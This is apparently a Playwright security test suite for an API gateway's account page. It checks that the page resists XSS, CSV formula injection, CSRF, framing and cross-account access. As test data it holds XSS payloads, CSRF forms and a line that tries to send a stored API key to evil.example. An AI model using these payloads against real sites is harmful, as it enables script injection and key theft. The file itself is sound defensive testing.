import * as http from 'node:http';

import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';

import type { AdminRequest } from '../../../src/admin.ts';
import { chunk, DONE, stream } from '../../../src/testing.ts';
import { type Gateway, listen, PRICING, QUESTION } from '../../helpers/gateway.ts';
import { answerJson, completionBody } from '../../helpers/provider.ts';
import { type AccountPage, KEY_NAME, startAccountPage } from '../helpers/account-page.ts';
import { CHROMIUM, launchChromium } from '../helpers/chromium.ts';

if (!CHROMIUM) console.log('Skipped for want of a Chromium in /usr/bin: attacks on the account page.');

/** What names say that others write. Of IDs, which have no blanks and no quotation marks, too. */
const SCRIPT = `"'><img src=x onerror="document.title='mine'"><script>document.title='mine'</script>`;
const IMAGE = "'><img/src=x/onerror=document.title=1>";
const MARKDOWN = `${SCRIPT}\n\n[here](javascript:document.title='mine') ![x](https://evil.example/x.png)\n<iframe srcdoc="<script>parent.document.title='mine'</script>"></iframe>`;
const COOKIE = 'session=of-a-customer';
const SECRET = 'a secret of the tests, of 32 characters or more';

describe.skipIf(!CHROMIUM)('what an attacker can do to the account page, in a browser', () => {
  let browser: Browser;
  let shown: AccountPage;

  beforeAll(async () => {
    browser = await launchChromium();
  });

  afterAll(() => browser.close());

  afterEach(() => shown.close());

  it('no name runs as a script, in any view: each is shown as it is written', async () => {
    shown = await startAccountPage(browser, {
      gateway: {
        models: {
          [IMAGE]: { targets: ['loopback/upstream-model'], pricing: PRICING, maxOutputTokens: 1000 },
        },
        dimensions: { user: true },
        health: false,
      },
      account: { title: SCRIPT },
    });
    const { page, problems, gateway } = shown;
    const { answered, failed } = await makeHostile(gateway);
    const views: readonly (readonly [string, readonly string[]])[] = [
      ['#/credits', [SCRIPT, IMAGE]],
      ['#/usage?days=7', [IMAGE, SCRIPT]],
      [`#/usage?days=7&model=${encodeURIComponent(IMAGE)}`, [IMAGE]],
      ['#/keys', [IMAGE]],
      ['#/keys/k1', [IMAGE]],
      ['#/requests', [IMAGE]],
      [`#/requests?model=${encodeURIComponent(IMAGE)}&key=k1`, [IMAGE]],
      [`#/requests/${answered}`, [IMAGE, SCRIPT]],
      [`#/requests/${failed}`, [IMAGE]],
      ['#/statements', [IMAGE, SCRIPT]],
      ['#/playground', [IMAGE]],
    ];
    for (const [view, names] of views) {
      await shown.open(view);
      await page.locator('#report .card').first().waitFor();
      const missing = async (): Promise<string[]> => {
        const text = await textOf(page);
        return names.filter((name) => !text.includes(name));
      };
      await expect.poll(missing, { message: view }).toEqual([]);
      await expectHarmless(page, view);
    }
    for (const view of [`#/keys/${encodeURIComponent(IMAGE)}`, `#/${encodeURIComponent(SCRIPT)}`]) {
      await shown.open(view);
      await page.locator('h1').waitFor();
      await expectHarmless(page, view);
    }
    await shown.open('#/keys');
    for (const name of ['Limits', 'Rotate', 'Pause', 'Revoke']) {
      await page.getByRole('button', { name: `${name} ${IMAGE}`, exact: true }).click();
      await page.getByRole('dialog').getByText(IMAGE).first().waitFor();
      await expectHarmless(page, name);
      await page.keyboard.press('Escape');
    }
    // The key that has an ID as no key may have: the browser logs each 400 or 404.
    expect(problems.filter((problem) => !/status of 40[04]/.test(problem))).toEqual([]);
  });

  it('no answer of a model runs as a script: Markdown and HTML are text, and nothing is loaded', async () => {
    shown = await startAccountPage(browser, { gateway: { health: false } });
    const { page, problems, gateway } = shown;
    const usage = { choices: [], usage: { prompt_tokens: 9, completion_tokens: 12, total_tokens: 21 } };
    gateway.provider.script = stream(
      ...[...MARKDOWN].map((letter) => chunk(letter)),
      chunk('', 'stop'),
      `data: ${JSON.stringify(usage)}\n\n`,
      DONE,
    );
    await shown.open('#/playground');
    await page.getByLabel('System prompt').fill(SCRIPT);
    await page.getByLabel('Message').fill(MARKDOWN);
    await page.keyboard.press('Enter');
    await page.locator('.charge').waitFor();
    await expect.poll(() => page.locator('.answer').innerText()).toBe(MARKDOWN);
    await expect.poll(() => page.locator('.bubble').innerText()).toBe(MARKDOWN);
    expect(await page.locator('#transcript a[href*="javascript"]').count()).toBe(0);
    for (const language of ['curl', 'Python', 'TypeScript']) {
      if ((await page.locator('#code').count()) === 0) await page.locator('#show-code').click();
      await page.getByRole('button', { name: language, exact: true }).click();
      await expectHarmless(page, language);
    }
    await page.keyboard.press('Escape');
    gateway.provider.script = answerJson(
      JSON.stringify({ error: { message: SCRIPT, code: SCRIPT, type: SCRIPT } }),
      400,
    );
    await page.getByLabel('Message').fill('Hello');
    await page.keyboard.press('Enter');
    await page.locator('.failure').waitFor();
    await expectHarmless(page, 'an answer that failed');
    expect(problems.filter((problem) => !/status of 400/.test(problem))).toEqual([]);
  });

  it('the files have no formula in them, and no path in their names', async () => {
    shown = await startAccountPage(browser);
    const { page, gateway } = shown;
    const { key } = await gateway.router.keys.create({ account: 'acct', name: '=1+1' });
    await ask(gateway, key, { ...QUESTION, user: '=1+1' }, { 'x-request-id': '=1+1' });
    for (const [view, button] of [
      ['#/usage', 'usage-csv'],
      ['#/requests', 'requests-csv'],
      ['#/statements', 'statement-csv'],
    ] as const) {
      await shown.open(view);
      const download = page.waitForEvent('download');
      await page.locator(`#${button}`).click();
      const file = await download;
      expect(file.suggestedFilename()).toMatch(/^[\w-]+\.csv$/);
      const chunks = await (await file.createReadStream()).toArray();
      expect(Buffer.concat(chunks).toString()).not.toMatch(/(?:^|,|;)"?[=+@]/m);
    }
  });

  it('a key is in no address, no cookie and no storage that lasts, and no address is told to anybody', async () => {
    shown = await startAccountPage(browser, { isSignedOut: true });
    const { page, context, gateway, origin } = shown;
    const asked: { readonly url: string; readonly referer: string | undefined }[] = [];
    context.on('request', (request) => {
      asked.push({ url: request.url(), referer: request.headers()['referer'] });
    });
    for (const place of [`?key=${gateway.key}`, `#key=${gateway.key}`, `?token=${gateway.key}#/keys`]) {
      await page.goto(`${origin}/account${place}`);
      await page.locator('#sign-in').waitFor();
    }
    asked.splice(0);
    await page.goto(`${origin}/account`);
    await page.getByLabel('API key').fill(gateway.key);
    await page.keyboard.press('Enter');
    for (const view of ['Usage', 'API keys', 'Requests', 'Statements', 'Playground', 'Credits']) {
      await page.getByRole('navigation').getByRole('link', { name: view, exact: true }).click();
      await page.getByRole('heading', { level: 1, name: view }).waitFor();
      await page.locator('#report .card').first().waitFor();
      expect(page.url()).not.toContain(gateway.key);
      expect(await page.content()).not.toContain(gateway.key);
    }
    expect(asked.length).toBeGreaterThan(8);
    expect(asked.filter(({ url, referer }) => url.includes(gateway.key) || (referer ?? '') !== '')).toEqual(
      [],
    );
    expect(await context.cookies()).toEqual([]);
    expect(await page.evaluate<number>('localStorage.length')).toBe(0);
    const other = await context.newPage();
    await other.goto(`${origin}/account`);
    await other.locator('#sign-in').waitFor();
  });

  it('a customer sees nothing of another account, by any address', async () => {
    shown = await startAccountPage(browser, { isSignedOut: true });
    const { gateway, context, page } = shown;
    const { key: own, id } = await gateway.router.keys.create({ account: 'acct', name: 'secret-project' });
    const request = await ask(gateway, own, { ...QUESTION, user: 'secret-user' });
    await gateway.router.credits.grant('mallory', '1.00', { id: 'g' });
    const { key } = await gateway.router.keys.create({ account: 'mallory', name: 'mine' });
    await signIn(context, key);
    for (const view of [
      `#/keys/${id}`,
      `#/requests/${request}`,
      `#/requests?key=${id}`,
      `#/usage?key=${id}`,
      '#/requests?account=acct',
      '#/usage?account=acct',
      '#/credits?account=acct',
      '#/credits/acct',
      '#/statements?account=acct',
    ]) {
      await page.goto('about:blank');
      await shown.open(view);
      await page.locator('#report .card, #notice:not([hidden])').first().waitFor();
      expect([view, await textOf(page)]).toEqual([view, expect.not.stringMatching(/secret-|\$5\.00|4\.99/)]);
    }
    await page.locator('#statement-lines').waitFor();
    await expect.poll(() => page.locator('#statement-lines').innerText()).toContain('$1.00');
  });

  it('nothing of an account is left once another one signs in', async () => {
    shown = await startAccountPage(browser, { isSignedOut: true });
    const { gateway, page } = shown;
    await gateway.router.credits.grant('mallory', '1.00', { id: 'g' });
    const { key } = await gateway.router.keys.create({ account: 'mallory', name: 'mine' });
    gateway.provider.script = answerJson(completionBody());
    const signInWith = async (secret: string): Promise<void> => {
      await page.getByLabel('API key').fill(secret);
      await page.keyboard.press('Enter');
      await page.locator('#sign-out').waitFor();
    };
    await shown.open('#/playground');
    await signInWith(gateway.key);
    await page.getByLabel('System prompt').fill('secret-instruction');
    await page.getByLabel('Message').fill('secret-question');
    await page.keyboard.press('Enter');
    await page.locator('.turn-foot a').waitFor();
    await page.locator('#sign-out').click();
    await page.locator('#sign-in').waitFor();
    await signInWith(key);
    await page.locator('#message').waitFor();
    expect(await page.locator('.turn').count()).toBe(0);
    await expect.poll(() => page.getByLabel('System prompt').inputValue()).toBe('');
    await page.getByRole('link', { name: 'Credits' }).click();
    await expect.poll(() => page.locator('#balance').innerText()).toBe('$1.00');
  });

  it('the page is of the key that was entered last, whichever answer comes last', async () => {
    shown = await startAccountPage(browser, { isSignedOut: true });
    const { gateway, page } = shown;
    const other = await gateway.router.keys.create({ account: 'other' });
    const asked = Promise.withResolvers<void>();
    const held = Promise.withResolvers<void>();
    await page.route('**/account/me', async (route) => {
      const response = await route.fetch();
      if (route.request().headers()['authorization'] === `Bearer ${gateway.key}`) {
        asked.resolve();
        await held.promise;
      }
      await route.fulfill({ response });
    });
    await shown.open('');
    await page.getByLabel('API key').fill(gateway.key);
    await page.keyboard.press('Enter');
    await asked.promise;
    await page.getByLabel('API key').fill(other.key);
    await page.keyboard.press('Enter');
    held.resolve();
    await page.locator('#balance').waitFor();
    expect(await page.locator('.operator').innerText()).toBe(`key ${other.id}`);
  });

  describe('from a page of another origin, where the customer is signed in by a cookie', () => {
    let page: Page;
    let target: string;

    const start = async (document: string): Promise<void> => {
      const whoIs = ({ headers }: AdminRequest) => (headers.cookie === COOKIE ? 'acct' : undefined);
      shown = await startAccountPage(browser, {
        isSignedOut: true,
        gateway: { sessions: { secret: SECRET } },
        account: { whoIs, onAudit: () => {} },
      });
      const evil = http.createServer((_, response) => {
        response.setHeader('content-type', 'text/html');
        response.end(document.replaceAll('ACCOUNT', `${shown.origin}/account`));
      });
      const elsewhere = await listen(evil, '/');
      onTestFinished(() => elsewhere.close());
      target = `${shown.origin}/account/keys`;
      // Another port is another origin of the same site: the browser sends the cookie along.
      const [name = '', value = ''] = COOKIE.split('=');
      await shown.context.addCookies([{ name, value, url: shown.origin, sameSite: 'Strict' }]);
      page = shown.page;
      await page.goto(elsewhere.baseURL);
    };

    const keyNames = async (): Promise<unknown[]> =>
      (await shown.gateway.router.keys.list('acct')).map(({ name }) => name);

    it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])(
      'a form of type %s makes no key',
      async (type) => {
        const name = '{"name":"evil","x":"'.replaceAll('"', '&quot;');
        await start(
          `<form method="post" enctype="${type}" action="ACCOUNT/keys"><input name="${name}" value="&quot;}"><button>`,
        );
        const answer = page.waitForResponse(target);
        await page.getByRole('button').click();
        expect((await answer).status()).toBe(403);
        expect(await keyNames()).toEqual(['test']);
      },
    );

    it.each([
      ['a key, without asking', 'keys', `{ method: 'POST', mode: 'no-cors', body: '{"name":"evil"}' }`],
      [
        'a key, by JSON',
        'keys',
        `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"evil"}' }`,
      ],
      ['a key for the playground', 'playground', `{ method: 'POST', mode: 'no-cors', body: '{}' }`],
      ['the keys', 'keys', '{}'],
      ['the credits', 'credits', `{ headers: { 'x-own': '1' } }`],
    ])('fetch gets nothing: %s', async (_name, path, init) => {
      await start('<p>');
      const outcome = await page.evaluate<string>(
        `fetch(${JSON.stringify(`${shown.origin}/account/${path}`)}, { credentials: 'include', ...${init} }).then(
           async (response) => response.type + (await response.text()),
           (error) => error.name)`,
      );
      expect(outcome).toMatch(/^(opaque|TypeError)$/);
      expect(await keyNames()).toEqual(['test']);
    });

    it('nothing is read by a script, a style, an image or a window that it opens', async () => {
      await start('<p>');
      const events = await page.evaluate<string[]>(`
        Promise.all(['script', 'img', 'iframe'].map((name) => new Promise((resolve) => {
          const element = document.createElement(name);
          element.onload = () => resolve(name + ' ' + (element.contentDocument?.body?.innerText ?? 'load'));
          element.onerror = () => resolve(name + ' error');
          element.src = ${JSON.stringify(target)};
          document.body.append(element);
        })))`);
      expect(events).toEqual(['script error', 'img error', 'iframe load']);
      const opened = shown.context.waitForEvent('page');
      await page.evaluate(`void (globalThis.opened = open(${JSON.stringify(`${shown.origin}/account`)}))`);
      await (await opened).locator('#balance').waitFor();
      const seen = await page.evaluate<string>(
        '(() => { try { return opened.document.title; } catch (error) { return error.name; } })()',
      );
      expect(seen).not.toContain('Account');
    });

    it('the page is shown in no frame', async () => {
      await start('<p>');
      const refusal = page.waitForEvent('console', (message) =>
        /frame-ancestors|X-Frame-Options/i.test(message.text()),
      );
      await page.evaluate(`
        const frame = document.createElement('iframe');
        frame.src = ${JSON.stringify(target.replace('/keys', ''))};
        document.body.append(frame);`);
      await refusal;
      for (const frame of page.frames()) expect(await frame.locator('#page').count()).toBe(0);
    });
  });

  it('a script that got into the page by other means runs not, and sends nothing away', async () => {
    shown = await startAccountPage(browser);
    const { page } = shown;
    await shown.open('');
    await page.locator('#balance').waitFor();
    const found = await page.evaluate<string[]>(`new Promise((resolve) => {
      const found = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
        if (disposition === 'enforce' && found.push(effectiveDirective) === 4) resolve(found.sort());
      });
      const attempt = (run) => { try { run(); } catch {} };
      attempt(() => { document.createElement('div').innerHTML = '<img src=x onerror="document.title=1">'; });
      attempt(() => { document.createElement('script').text = 'document.title = 1'; });
      attempt(() => { new Image().src = 'https://evil.example/x.png'; });
      fetch('https://evil.example/?' + sessionStorage.getItem(${JSON.stringify(KEY_NAME)})).catch(() => {});
    })`);
    expect(found).toEqual([
      'connect-src',
      'img-src',
      'require-trusted-types-for',
      'require-trusted-types-for',
    ]);
    expect(await page.title()).not.toBe('1');
  });
});

/** All text of the page, also of its shadow root. */
function textOf(page: Page): Promise<string> {
  return page.evaluate<string>(
    `document.body.innerText + (document.querySelector('#page').shadowRoot?.textContent ?? '') + document.title`,
  );
}

async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate<unknown[]>(`(() => {
    const hostile = 'img, iframe, object, script[src], [onerror]';
    const roots = [document, document.querySelector('#page').shadowRoot];
    return [document.title, roots.reduce((sum, root) => sum + root.querySelectorAll(hostile).length, 0)];
  })()`);
  expect([where, ...found]).toEqual([where, expect.not.stringMatching(/^(mine|1)$/), 0]);
}

async function signIn(context: BrowserContext, key: string): Promise<void> {
  await context.addInitScript(
    ([name = '', secret = '']) => sessionStorage.setItem(name, secret),
    [KEY_NAME, key],
  );
}

/** @returns the request's ID */
async function ask(
  gateway: Gateway,
  key: string,
  body: object,
  headers: Readonly<Record<string, string>> = {},
): Promise<string> {
  const response = await fetch(`${gateway.baseURL}/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  await response.text();
  return response.headers.get('x-request-id') ?? '';
}

/** Each name that a customer, an operator or a provider writes is a script. */
async function makeHostile(gateway: Gateway): Promise<{ answered: string; failed: string }> {
  const { router, provider } = gateway;
  await router.credits.allow('acct', { id: 'plan', amount: '1.00', per: 'day' });
  await router.accounts.update('acct', { models: [IMAGE, '*'], name: SCRIPT });
  const { key } = await router.keys.create({
    account: 'acct',
    id: 'k1',
    name: IMAGE,
    models: [IMAGE],
    metadata: { managed_by: 'customer', [IMAGE]: SCRIPT },
  });
  const question = { ...QUESTION, model: IMAGE, user: SCRIPT };
  provider.script = answerJson(
    JSON.stringify({ error: { message: SCRIPT, code: SCRIPT, type: SCRIPT } }),
    503,
  );
  const failed = await ask(gateway, key, question);
  provider.script = answerJson(
    completionBody({
      choices: [{ index: 0, message: { role: 'assistant', content: SCRIPT }, finish_reason: SCRIPT }],
    }),
  );
  const answered = await ask(gateway, key, question, { 'x-request-id': IMAGE });
  return { answered, failed };
}
